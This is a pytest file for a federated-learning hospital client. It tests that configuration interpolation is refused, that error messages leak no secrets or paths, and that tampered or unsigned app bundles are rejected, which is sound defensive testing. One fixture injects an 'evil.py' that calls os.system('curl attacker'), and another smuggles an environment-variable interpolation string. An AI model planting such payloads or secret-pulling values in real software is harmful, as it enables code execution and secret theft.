"""A hospital trusts only what it chose to: configuration values are data (no interpolation), and
an error reply carries a code and a message the project wrote, never an exception's text, a path
or an environment value."""

import numpy as np
import pytest
import yaml
from flwr.app import ArrayRecord, ConfigRecord, Context, RecordDict

from omnirad.config import ConfigError, parse_overrides
from omnirad.configure import load_config
from omnirad.protocol import CONFIG_REFUSED, DATA_UNREADABLE, SITE_FAILED
from omnirad_fl.client import app as client_app
from omnirad_fl.client import rounds as client_rounds
from omnirad_fl.client.site_config import load_site_config
from omnirad_fl.simulations.deploy_demo import write_encoder_weights
from omnirad_fl.simulations.flower_local import instruction

SECRET = "hospital-internal-secret-7731"
SERVER = {"data.dataset": "deployment", "data.task": "multi-class", "data.num-classes": 3, "data.size": 28,
          "train.local-epochs": 1, "model.adapter": "linear"}


@pytest.fixture
def secret(monkeypatch):
    monkeypatch.setenv("SITE_SECRET", SECRET)
    return "${oc.env:SITE_SECRET}"


def test_interpolation_is_refused_by_key_wherever_a_value_comes_from(tmp_path, secret):
    with pytest.raises(ConfigError, match="'run.name'.*interpolation") as refused:
        load_config({"run.name": secret})
    assert SECRET not in str(refused.value)
    with pytest.raises(ConfigError, match="'model.weights'"):
        load_config(parse_overrides([f"model.weights={secret}"]))
    site_file = tmp_path / "A.yaml"
    site_file.write_text(yaml.safe_dump({"site": {"name": "A", "id": 0}, "data": {"file": secret}}))
    with pytest.raises(ConfigError, match=r"A.yaml: .*'data.file'.*interpolation"):
        load_site_config(site_file)


def test_interpolation_inside_a_list_or_mapping_is_refused_by_key(tmp_path, secret):
    site_file = tmp_path / "A.yaml"
    site = {"site": {"name": "A", "id": 0}, "trusted-publishers": ["ssh-ed25519 AAAA", f"{secret}/x.pub"]}
    site_file.write_text(yaml.safe_dump(site))
    with pytest.raises(ConfigError, match=r"A.yaml: .*'trusted-publishers\[1\]'.*interpolation") as refused:
        load_site_config(site_file)
    assert SECRET not in str(refused.value)
    site_file.write_text(yaml.safe_dump({**site, "trusted-publishers": [{"key": secret}]}))
    with pytest.raises(ConfigError, match=r"'trusted-publishers\[0\].key'.*interpolation"):
        load_site_config(site_file)


def deployed(tmp_path, data_file, run_config):
    weights = write_encoder_weights(tmp_path / "weights.safetensors")
    node = {"site-id": 1, "site-name": "A", "data-file": str(data_file), "model-weights": str(weights),
            "cache-dir": str(tmp_path / "cache")}
    return Context(run_id=1, node_id=7, node_config=node, state=RecordDict(), run_config=run_config)


def train_reply(context):
    content = RecordDict({"arrays": ArrayRecord({}), "config": ConfigRecord({"server-round": 1})})
    return client_app.app(instruction("train", content, node_id=7), context)


def test_a_crafted_run_configuration_gets_a_fixed_message_back_and_no_environment_value(tmp_path, secret):
    reply = train_reply(deployed(tmp_path, tmp_path / "a.npz", {**SERVER, "run.name": secret}))
    assert reply.has_error() and reply.error.code == CONFIG_REFUSED
    assert SECRET not in reply.error.reason and "${" not in reply.error.reason


@pytest.mark.parametrize("problem", ["missing", "corrupt"])
def test_an_unreadable_data_file_is_answered_without_its_path_or_the_exception_text(tmp_path, problem):
    data = tmp_path / "private" / "patients-2026.npz"
    data.parent.mkdir()
    if problem == "corrupt":
        data.write_bytes(b"PK\x03\x04 not a zip at all")
    reply = train_reply(deployed(tmp_path, data, SERVER))
    assert reply.has_error() and reply.error.code == DATA_UNREADABLE
    for leak in ("private", "patients", str(tmp_path), "Traceback", "Error:"):
        assert leak not in reply.error.reason


def test_an_unexpected_failure_names_only_its_kind(tmp_path, monkeypatch):
    rng = np.random.default_rng(0)
    data = tmp_path / "a.npz"
    np.savez(data, train_images=rng.integers(0, 255, (30, 28, 28), dtype=np.uint8), train_labels=rng.integers(0, 3, (30, 1)))

    def broken(*args, **kwargs):
        raise RuntimeError(f"disk full while writing {tmp_path}/cache/patient-0042")

    monkeypatch.setattr(client_rounds, "get_site", broken)
    reply = train_reply(deployed(tmp_path, data, SERVER))
    assert reply.has_error() and reply.error.code == SITE_FAILED
    assert reply.error.reason == "an unexpected RuntimeError at the site; see its log"


# --- signed app bundles --------------------------------------------------------------------------

from pathlib import Path  # noqa: E402

from flwr.cli.build import build_fab_from_disk  # noqa: E402

from omnirad.app_trust import AppNotTrusted, parse_trusted, verify_bundle  # noqa: E402
from omnirad_fl.client.verified_app import verifying  # noqa: E402
from omnirad_fl.server.app_bundle import load_publisher_key, write_publisher_key, write_signed_app  # noqa: E402

PROJECT = Path(__file__).resolve().parents[1]


@pytest.fixture
def publisher(tmp_path):
    (tmp_path / "coordinator").mkdir()
    private, public = write_publisher_key(tmp_path / "coordinator", "st-elsewhere-coordinator")
    return private, parse_trusted([public.read_text()])


def signed_fab(tmp_path, private):
    key, name = load_publisher_key(private)
    return build_fab_from_disk(write_signed_app(PROJECT, tmp_path / "app", key, name))


def test_a_signed_app_from_a_trusted_publisher_is_accepted(tmp_path, publisher):
    private, trusted = publisher
    assert verify_bundle(signed_fab(tmp_path, private), trusted) == "st-elsewhere-coordinator"


def test_unsigned_foreign_altered_or_padded_apps_are_refused(tmp_path, publisher):
    import io
    import zipfile

    private, trusted = publisher
    with pytest.raises(AppNotTrusted, match="not signed"):
        verify_bundle(build_fab_from_disk(PROJECT), trusted)
    (tmp_path / "other").mkdir()
    foreign, _ = write_publisher_key(tmp_path / "other", "someone-else")
    with pytest.raises(AppNotTrusted, match="'someone-else', whose key this site does not trust"):
        verify_bundle(signed_fab(tmp_path / "f", foreign), trusted)

    def rewritten(change) -> bytes:
        source = zipfile.ZipFile(io.BytesIO(signed_fab(tmp_path / "g", private)))
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as target:
            for name in source.namelist():
                target.writestr(name, change(name, source.read(name)))
            if change("evil.py", None) is not None:
                target.writestr("evil.py", b"import os; os.system('curl attacker')")
        return out.getvalue()

    altered = rewritten(lambda name, data: data.replace(b"omnirad_fl.client.app:app", b"evil:app") if data else None)
    with pytest.raises(AppNotTrusted, match="changed after it was signed"):
        verify_bundle(altered, trusted)
    padded = rewritten(lambda name, data: data if data is not None else b"")
    with pytest.raises(AppNotTrusted, match="files besides.*evil.py"):
        verify_bundle(padded, trusted)


def test_the_sites_installer_never_sees_an_untrusted_bundle(tmp_path, publisher):
    private, _ = publisher
    keys = tmp_path / "trusted"
    keys.write_text(private.with_suffix(".pub").read_text())
    installed = []
    install = verifying(lambda fab, *a, **k: installed.append(fab) or tmp_path, keys)
    with pytest.raises(AppNotTrusted):
        install(build_fab_from_disk(PROJECT), skip_prompt=True)
    assert not installed
    install(signed_fab(tmp_path, private), skip_prompt=True)
    assert len(installed) == 1
